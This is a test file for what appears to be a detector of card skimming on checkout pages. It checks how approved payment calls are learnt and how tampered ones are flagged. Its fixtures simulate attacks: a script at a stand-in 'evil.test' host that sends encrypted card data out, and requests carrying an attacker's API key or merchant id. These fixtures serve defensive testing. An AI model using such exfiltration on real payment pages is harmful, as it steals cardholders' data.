import { createCipheriv } from 'node:crypto';
import { Baseline, type WireMessage } from '@komainu/model';
import { describe, expect, test } from 'vitest';
import { draftBaseline, judgeCheck, type Visited } from '../src/index.ts';
import {
  AT,
  act,
  by,
  CARDS,
  type Card,
  canary,
  free,
  message,
  type Parts,
  PSP,
  pinned,
  post,
  REF,
  SHOP,
  type Store,
  script,
  store,
} from './make.ts';

const EVIL = 'https://stats.evil.test';
const OTHER: Card = { number: '5370104428190037', expiry: '08/30', code: '551', holder: 'MIKA ONO' };
const sealed = (card: Card): string => {
  const cipher = createCipheriv('aes-128-ctr', Buffer.alloc(16, 7), Buffer.alloc(16, 9));
  return cipher.update(JSON.stringify(card)).toString('base64');
};

type Call = (card: Card, kept: Store, visit: number) => readonly WireMessage[];
const answered = { outcome: { kind: 'answered', status: 402 }, initiator: by(`${PSP}/pay.js`) } as const;
const plain: Call = (card, kept, visit) => [
  post(
    kept,
    `${PSP}/tokens`,
    JSON.stringify({ number: card.number, cvc: card.code, merchant: 'shop-881', nonce: `n${visit}zzzzzz` }),
    {
      ...answered,
      headers: [
        ['Authorization', 'Bearer pk_live_4fGh7JkL'],
        ['Idempotency-Key', `idem-${visit}-9f8e7d`],
      ],
    },
  ),
];
const encrypted: Call = (card, kept) => [
  post(kept, `${PSP}/tokens`, JSON.stringify({ enc: sealed(card), client_key: 'test_PUBLIC8812' }), answered),
];

const check = (call: Call, kept: Store, more: Parts = {}, rounds = 1): readonly Visited[] => {
  const scripts = [script(kept, `${PSP}/pay.js`, 'pay()')];
  const acts = [act('read', 'HTMLInputElement.value', `${PSP}/pay.js`, { fields: ['number', 'code'] })];
  const base: Parts = { scripts, acts, ...more };
  return [
    free('low', { ...base, wire: call(canary.card, kept, 0) }),
    free('high', { ...base, wire: call(OTHER, kept, 1), visit: { canary: { ...canary, card: OTHER } } }),
    ...Array.from({ length: rounds }, (_, i) => i + 1).flatMap((round) => [
      pinned('a', round, { ...base, wire: call(CARDS.a, kept, 7) }),
      pinned('b', round, { ...base, wire: call(CARDS.b, kept, 7) }),
    ]),
  ];
};
const draft = (
  visits: readonly Visited[],
  kept: Store,
  more: Partial<Parameters<typeof draftBaseline>[0]> = {},
) => {
  const [first, ...others] = visits.map(({ recording }) => recording);
  if (first === undefined) throw new Error('no visits');
  const drafted = draftBaseline({
    ref: REF,
    recording: first,
    others,
    approvedBy: 'Sato',
    approvedAt: AT,
    bodies: kept.bodies,
    ...more,
  });
  expect(Baseline.parse(drafted.baseline)).toEqual(drafted.baseline);
  return drafted;
};
const judge = (recordings: readonly Visited[], baseline: Baseline, kept: Store) =>
  judgeCheck({ recordings, baseline: { ref: REF, baseline }, bodies: kept.bodies });

describe('draftBaseline from a whole check', () => {
  test('learns who reads, on whose behalf the call is made, and makes the next check clean', () => {
    const kept = store();
    const { baseline, warnings } = draft(check(plain, kept), kept);
    expect(warnings).toEqual([]);
    expect(baseline.scripts[0]?.reads).toEqual(['number', 'code']);
    expect(baseline.destinations.find(({ origin }) => origin === PSP)?.cards).toEqual([
      {
        method: 'POST',
        path: '/tokens',
        fields: ['number', 'code'],
        keys: [
          { part: 'header authorization', value: 'Bearer pk_live_4fGh7JkL' },
          { part: 'body /merchant', value: 'shop-881' },
        ],
      },
    ]);
    expect(judge(check(plain, kept), baseline, kept).verdict.kind).toBe('clean');
  });

  test("learns the payment call from the comparison where the provider's script encrypts it", () => {
    const kept = store();
    const { baseline, warnings } = draft(check(encrypted, kept), kept);
    expect(warnings).toEqual([]);
    expect(baseline.destinations.find(({ origin }) => origin === PSP)?.cards).toEqual([
      {
        method: 'POST',
        path: '/tokens',
        fields: ['number', 'expiry', 'code'],
        keys: [{ part: 'body /client_key', value: 'test_PUBLIC8812' }],
      },
    ]);
    expect(judge(check(encrypted, kept, {}, 2), baseline, kept).verdict.kind).toBe('clean');
  });

  test('an encrypted leak at approval is warned of, and neither its destination nor its script is approved', () => {
    const kept = store();
    const leaking: Call = (card, into, visit) => [
      ...plain(card, into, visit),
      post(into, `${EVIL}/c`, sealed(card), { initiator: by(`${EVIL}/t.js`) }),
    ];
    const more = { scripts: [script(kept, `${EVIL}/t.js`, 'steal()')] };
    const { baseline, warnings } = draft(check(leaking, kept, more, 2), kept);
    expect(warnings.map(({ grade, detector }) => `${detector} ${grade}`)).toContain(
      'depends-on-card tampered',
    );
    expect(baseline.destinations.map(({ origin }) => origin)).not.toContain(EVIL);
    expect(baseline.scripts.map(({ where }) => where)).not.toContain(`${EVIL}/t.js`);
  });

  test("a form of the shop's own that sends the holder's name: approved for the name and nothing else", () => {
    const kept = store();
    const saving =
      (more: (card: Card) => string): Call =>
      (card, into, visit) => [
        ...plain(card, into, visit),
        post(into, `${SHOP}/draft`, JSON.stringify({ name: card.holder, x: more(card) })),
      ];
    const { baseline, warnings } = draft(
      check(
        saving(() => ''),
        kept,
      ),
      kept,
    );
    expect(warnings).toEqual([]);
    expect(baseline.destinations.find(({ origin }) => origin === SHOP)?.cards).toMatchObject([
      { method: 'POST', path: '/draft', fields: ['holder'] },
    ]);
    expect(judge(check(saving(sealed), kept, {}, 2), baseline, kept).verdict.kind).toBe('tampered');
  });

  test('how much a destination may learn is a decision, and kept', () => {
    const kept = store();
    const telling: Call = (card, into, visit) => [
      ...plain(card, into, visit),
      message(`${SHOP}/brand?l=${card.number.slice(-4)}`),
    ];
    const undecided = draft(check(telling, kept), kept);
    expect(undecided.warnings.map(({ grade }) => grade)).toEqual(['changed']);
    const decided = draft(check(telling, kept), kept, { reveals: { [SHOP]: 'last-four' } });
    expect(decided.warnings).toEqual([]);
    expect(decided.baseline.destinations.find(({ origin }) => origin === SHOP)?.reveals).toBe('last-four');
  });

  test('from one visit only keys that are keys by their looks are learnt', () => {
    const kept = store();
    const [one] = check(plain, kept);
    const { baseline } = draft(one === undefined ? [] : [one], kept);
    expect(baseline.destinations.find(({ origin }) => origin === PSP)?.cards[0]?.keys).toEqual([
      { part: 'header authorization', value: 'Bearer pk_live_4fGh7JkL' },
    ]);
  });
});

describe('foreign-key', () => {
  const kept = store();
  const { baseline } = draft(check(plain, kept), kept);
  const withBody =
    (change: Record<string, unknown>, authorization: string | null): Call =>
    (card, into, visit) => [
      ...plain(card, into, visit),
      post(
        into,
        `${PSP}/tokens`,
        JSON.stringify({ number: card.number, cvc: card.code, merchant: 'shop-881', ...change }),
        {
          ...answered,
          headers: authorization === null ? [] : [['Authorization', authorization]],
        },
      ),
    ];
  const found = (call: Call) =>
    judge(check(call, kept), baseline, kept).findings.filter(({ detector }) => detector === 'foreign-key');

  test.each<readonly [string, Call, string]>([
    ['another key in the header', withBody({}, 'Bearer pk_live_ATTACKER'), 'header authorization'],
    ['another merchant', withBody({ merchant: 'shop-999' }, 'Bearer pk_live_4fGh7JkL'), 'body /merchant'],
    [
      'a key in another place',
      withBody({ merchant: undefined, api_key: 'pk_live_ATTACKER' }, null),
      'body /api_key',
    ],
  ])('%s: tampered, certain', (_, call, part) => {
    expect(found(call)).toMatchObject([
      {
        grade: 'tampered',
        severity: 'critical',
        confidence: 'certain',
        key: `foreign-key:POST ${PSP}/tokens ${part}`,
      },
    ]);
  });
  test.each<readonly [string, Call]>([
    ['the approved key', withBody({}, 'Bearer pk_live_4fGh7JkL')],
    ['a call without its header, for the approved merchant', withBody({}, null)],
    ['a new nonce and more fields', withBody({ nonce: 'other', locale: 'ja' }, 'Bearer pk_live_4fGh7JkL')],
    [
      'another call to the provider',
      (_card, into) => [post(into, `${PSP}/telemetry`, '{"merchant":"other"}')],
    ],
  ])('%s: quiet', (_, call) => expect(found(call)).toEqual([]));

  test('card data to another path of the provider is a leak, in the clear and encrypted', () => {
    const to =
      (body: (card: Card) => string): Call =>
      (card, into, visit) => [...plain(card, into, visit), post(into, `${PSP}/v1/sources`, body(card))];
    for (const body of [(card: Card) => card.number, sealed])
      expect(judge(check(to(body), kept, {}, 2), baseline, kept).verdict.kind).toBe('tampered');
  });
});
